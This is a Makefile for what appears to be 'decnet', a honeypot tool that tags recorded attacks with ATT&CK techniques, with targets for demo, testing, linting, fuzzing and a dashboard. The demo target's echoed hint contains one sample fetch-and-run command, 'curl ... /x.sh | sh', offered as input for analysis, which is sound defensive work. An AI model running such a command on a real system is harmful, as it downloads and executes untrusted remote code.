# `make demo` and `make test` are all the set-up there is.
PYTHON ?= $(shell command -v python3.11 || command -v python3)
VENV := .venv
BIN := $(VENV)/bin
COWRIE := .venv-cowrie
OPENCANARY := .venv-opencanary
NPM := $(shell command -v npm)
DASHBOARD := decnet/web/dashboard/index.html

.PHONY: help demo dashboard no-dashboard test test-again check format bench fuzz chaos golden recording picture screens clean

help: ## list the commands
	@grep -E '^[a-z-]+:.*## ' Makefile | sed -E 's/:.*## /\t/' | expand -t 12

demo: $(VENV)/.installed $(if $(NPM),$(DASHBOARD),no-dashboard) ## tag the recorded attack that ships with the project
	@DECNET_DATA_DIR=build/demo $(BIN)/decnet ttp tag demo/cowrie.json --navigator build/demo/layer.json
	@echo "See it in a browser: DECNET_DATA_DIR=build/demo $(BIN)/decnet web"
	@echo "Open build/demo/layer.json in the ATT&CK Navigator, or try: $(BIN)/decnet ttp explain 'curl -s http://203.0.113.7/x.sh | sh'"

dashboard: $(DASHBOARD) ## build the dashboard anew where its sources changed; needs Node 20

no-dashboard:
	@test -e $(DASHBOARD) || echo "No npm here, so the dashboard is not built; install Node 20 and run 'make dashboard' to have it."

test: $(VENV)/.dev $(COWRIE)/.installed $(OPENCANARY)/.installed $(if $(NPM),$(DASHBOARD),no-dashboard) ## run every test, properties on the same examples each time
	@$(BIN)/pytest --numprocesses 3 --dist worksteal --hypothesis-profile ci

test-again: ## the tests that failed last time, one at a time; an error where none did
	@$(BIN)/pytest --last-failed --last-failed-no-failures none --hypothesis-profile ci

check: $(VENV)/.dev ## format, lint, types, imports, spelling, rules
	@$(BIN)/ruff format --check --quiet .
	@$(BIN)/ruff check --quiet .
	@$(BIN)/mypy --no-error-summary
	@$(BIN)/lint-imports --no-logo
	@$(BIN)/codespell
	@$(BIN)/yamllint --strict rules
	@$(BIN)/decnet ttp rules lint rules
	@$(if $(NPM),$(MAKE) --no-print-directory $(DASHBOARD) && npm --prefix frontend run --silent check,echo "No npm here: the dashboard was not checked.")

format: $(VENV)/.dev ## format the code and mend what ruff can mend
	@$(BIN)/ruff format --quiet .
	@$(BIN)/ruff check --quiet --fix .
	@$(if $(NPM),npm --prefix frontend run --silent format)

picture: $(VENV)/.dev ## draw the picture in the README anew
	@$(BIN)/python -m scripts.draw_summary

screens: $(VENV)/.dev $(DASHBOARD) ## take the pictures of every page of the dashboard anew
	@DECNET_TEST_SCREENS=$(CURDIR)/docs/assets/screens npm --prefix frontend run --silent browse -- screens

bench: $(VENV)/.dev ## measure speed, print ratios
	@$(BIN)/python -m bench

fuzz: $(VENV)/.dev ## a million random inputs through the shell view and through the engine, a hundred thousand through every matcher, properties on new examples
	@$(BIN)/python -m tests.shell.fuzz 1000000
	@$(BIN)/python -m tests.ttp.fuzz engine 1000000
	@$(BIN)/python -m tests.ttp.fuzz matchers 100000
	@$(BIN)/pytest --numprocesses 2 --dist worksteal -m hypothesis
	@DECNET_TEST_EXAMPLES=400 $(BIN)/pytest --numprocesses 2 tests/web/test_openapi.py

chaos: $(VENV)/.dev ## kill everything fifty times, its own servers too, and hold the result to an undisturbed run
	@$(BIN)/python -m tests.chaos.run --kills 50
	@$(BIN)/python -m tests.chaos.whole --kills 50 --events 200000

golden: $(VENV)/.dev ## rewrite golden files after a wanted change
	@$(BIN)/pytest -q --golden

recording: $(VENV)/.dev $(COWRIE)/.installed ## make demo/cowrie.json anew from scripted visits to a real Cowrie
	@$(BIN)/python -m scripts.record_cowrie demo/cowrie.json

$(VENV)/.installed: pyproject.toml constraints.txt
	@$(PYTHON) -m venv $(VENV)
	@$(BIN)/python -m pip install --quiet --disable-pip-version-check --constraint constraints.txt --editable .
	@touch $@

$(VENV)/.dev: $(VENV)/.installed
	@$(BIN)/python -m pip install --quiet --disable-pip-version-check --constraint constraints.txt 'pip>=25.1'
	@$(BIN)/python -m pip install --quiet --disable-pip-version-check --constraint constraints.txt --group dev
	@touch $@

# Each honeypot pins the libraries that it uses, so each lives in an environment of its own.
$(COWRIE)/.installed: constraints-cowrie.txt
	@$(PYTHON) -m venv $(COWRIE)
	@$(COWRIE)/bin/python -m pip install --quiet --disable-pip-version-check --constraint constraints-cowrie.txt cowrie
	@touch $@

$(OPENCANARY)/.installed: constraints-opencanary.txt
	@$(PYTHON) -m venv $(OPENCANARY)
	@$(OPENCANARY)/bin/python -m pip install --quiet --disable-pip-version-check --constraint constraints-opencanary.txt opencanary
	@touch $@

$(DASHBOARD): frontend/node_modules/.package-lock.json tests/golden/openapi.json $(shell find frontend -path frontend/node_modules -prune -o -type f -not -name schema.d.ts -not -path 'frontend/browser/*' -print)
	@npm --prefix frontend run --silent build -- --logLevel warn

frontend/node_modules/.package-lock.json: frontend/package-lock.json
	@npm --prefix frontend ci --silent --no-audit --no-fund

clean: ## remove what the commands above made
	rm -rf $(VENV) $(COWRIE) $(OPENCANARY) build dist decnet/web/dashboard frontend/node_modules .mypy_cache .ruff_cache .pytest_cache .hypothesis .import_linter_cache
